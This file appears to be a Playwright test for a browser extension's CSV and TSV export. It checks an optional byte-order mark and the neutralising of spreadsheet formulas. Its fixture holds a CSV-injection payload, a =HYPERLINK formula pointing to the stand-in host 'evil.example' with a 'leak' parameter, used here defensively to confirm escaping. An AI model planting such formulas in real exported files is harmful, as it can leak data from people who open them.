import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { expect, test } from './support/fixtures';
import { finishedJob, putJob } from './ui-support';

const EVIL = '=HYPERLINK("http://evil.example/?leak",\n"Click me")';

async function downloadCsv(popup: Page): Promise<string> {
  const [download] = await Promise.all([
    popup.waitForEvent('download'),
    popup.getByRole('button', { name: 'Download CSV' }).click(),
  ]);
  return readFileSync(await download.path(), 'utf8');
}

test('CSV has a BOM (a setting) and formulas over several lines are neutralised in CSV and TSV', async ({
  context,
  site,
  worker,
  extensionId,
  openPopup,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: site.origin });
  const page = await context.newPage();
  await page.goto(`${site.origin}/product.html`);
  await putJob(
    worker,
    finishedJob('x', Date.now(), { result: { items: [{ name: 'ÖLMÜHLE K2', temp: '40 °C', link: EVIL }] } }),
  );
  let popup = await openPopup();
  await expect(popup.locator('.job')).toHaveAttribute('data-status', 'completed');
  const csv = await downloadCsv(popup);
  expect(csv).toBe(
    `\uFEFFname,temp,link\r\nÖLMÜHLE K2,40 °C,"'=HYPERLINK(""http://evil.example/?leak"",\n""Click me"")"`,
  );

  await popup.getByRole('button', { name: 'Copy TSV' }).click();
  await expect(popup.getByText(/Copied as TSV/)).toBeVisible();
  const tsv = await page.evaluate(() => navigator.clipboard.readText());
  expect(tsv.split('\r\n')[1]!.split('\t')[2]).toBe(`"'=HYPERLINK(""http://evil.example/?leak"",\n""Click me"")"`);

  // Settings → Exports turns the BOM off.
  const options = await context.newPage();
  await options.goto(`chrome-extension://${extensionId}/options.html`);
  const bom = options.getByLabel(/Start CSV files with a byte-order mark/);
  await expect(bom).toBeChecked();
  await bom.uncheck();
  await expect
    .poll(() => worker.evaluate(async () => (await chrome.storage.local.get('ui:exports'))['ui:exports']))
    .toEqual({ csvBom: false });
  await popup.close();
  popup = await openPopup();
  expect((await downloadCsv(popup)).startsWith('name,temp,link')).toBe(true);
});
